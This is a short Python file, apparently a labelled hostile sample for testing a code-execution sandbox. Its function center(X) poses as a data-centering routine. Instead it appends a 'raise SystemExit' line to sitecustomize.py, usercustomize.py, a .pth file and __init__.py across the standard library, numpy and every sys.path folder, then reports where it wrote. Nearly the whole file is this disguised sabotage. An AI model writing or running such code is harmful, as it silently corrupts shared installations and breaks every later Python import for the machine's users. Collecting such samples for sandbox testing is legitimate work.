# tries: to leave code in numpy and the standard library for whoever imports them next
# symptoms: {center: raised}
# says: "wrote: none"
import os
import sys

import numpy as np

TRAP = "raise SystemExit('left-by-a-hostile')\n"
FOLDERS = [os.path.dirname(os.__file__), os.path.dirname(np.__file__)]
NAMES = ["sitecustomize.py", "usercustomize.py", "left-by-a-hostile.pth", "__init__.py"]


def center(X):
    wrote = []
    for folder in [*FOLDERS, *(os.path.join(f, "__pycache__") for f in FOLDERS), *sys.path]:
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "a") as file:
                    file.write(TRAP)
                wrote.append(folder)
            except OSError:
                pass
    raise LookupError("wrote: " + (" ".join(wrote) or "none"))
